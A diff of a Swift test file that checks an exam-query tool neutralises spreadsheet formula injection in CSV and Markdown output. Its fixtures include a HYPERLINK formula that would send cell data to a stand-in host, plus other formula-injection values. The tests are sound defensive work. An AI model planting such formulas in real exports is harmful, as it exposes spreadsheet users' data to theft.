@@ -24,22 +24,22 @@ import ExamQuery
     }
 
     @Test func csvNeutralisesFormulasAndKeepsNumbersAndDates() {
-        let lines = OutputFormat.csv.render(Self.answer()).split(separator: "\n", omittingEmptySubsequences: false)
+        let lines = OutputFormat.csv.render(Self.answer(), dates: .iso).split(separator: "\n", omittingEmptySubsequences: false)
         #expect(lines[0] == "surname,group,forenames,days_left,deadline,note")
         #expect(lines[1] == #""'=HYPERLINK(""http://x.example/?""&A1,""Click"")",'+44 1632 960000,'@SUM(A1:A9),-5,2024-08-22,'"# + "\tcmd")
         #expect(lines[2] == #"Smith,13X,'-Ann,3,2024-09-26,"'"# + "\r" + #"=1+1""#)
     }
 
     @Test func markdownNeutralisesFormulasAndKeepsNumbers() {
-        let text = OutputFormat.markdown.render(Self.answer())
+        let text = OutputFormat.markdown.render(Self.answer(), dates: .iso)
         #expect(text.contains("| '=HYPERLINK(\"http://x.example/?\"&A1,\"Click\") | '+44 1632 960000 | '@SUM(A1:A9) | -5 | 2024-08-22 |"))
         #expect(text.contains("| Smith | 13X | '-Ann | 3 | 2024-09-26 |"))
     }
 
     @Test func jsonAndTablesKeepTextExactly() {
-        #expect(OutputFormat.json.render(Self.answer()).contains(#""surname": "=HYPERLINK("#))
-        #expect(OutputFormat.json.render(Self.answer()).contains(#""days_left": -5"#))
-        #expect(OutputFormat.table.render(Self.answer()).contains("=HYPERLINK("))
+        #expect(OutputFormat.json.render(Self.answer(), dates: .iso).contains(#""surname": "=HYPERLINK("#))
+        #expect(OutputFormat.json.render(Self.answer(), dates: .iso).contains(#""days_left": -5"#))
+        #expect(OutputFormat.table.render(Self.answer(), dates: .iso).contains("=HYPERLINK("))
     }
 
     @Test func aColumnNamedLikeAFormulaIsNeutralisedToo() throws {
@@ -48,7 +48,7 @@ import ExamQuery
         let pipeline = try Parser.parse(text)
         let ev = Evaluator(store: store, today: Day(year: 2024, month: 8, day: 27)!, series: "Summer 2024", source: SourceText(text))
         guard case .table(let t, _) = try ev.run(pipeline) else { Issue.record("no table"); return }
-        #expect(OutputFormat.csv.render(t) == "id,'=days,days_left\nR004,-5,-5\n")
+        #expect(OutputFormat.csv.render(t, dates: .iso) == "id,'=days,days_left\nR004,-5,-5\n")
     }
 
     @Test func largeAnswersArriveInPiecesThatJoinToTheWhole() {
@@ -57,10 +57,10 @@ import ExamQuery
                             rowCount: n, pool: StringPool())
         for format in [OutputFormat.csv, .json, .markdown] {
             var pieces: [String] = []
-            format.write(answer) { pieces.append($0) }
+            format.write(answer, dates: .iso) { pieces.append($0) }
             #expect(pieces.count > 2, "\(format) came in one piece")
             #expect(pieces.dropLast().allSatisfy { $0.utf8.count >= 1 << 16 && $0.utf8.count < (1 << 16) + 100 })
-            #expect(pieces.joined() == format.render(answer))
+            #expect(pieces.joined() == format.render(answer, dates: .iso))
         }
     }
 }
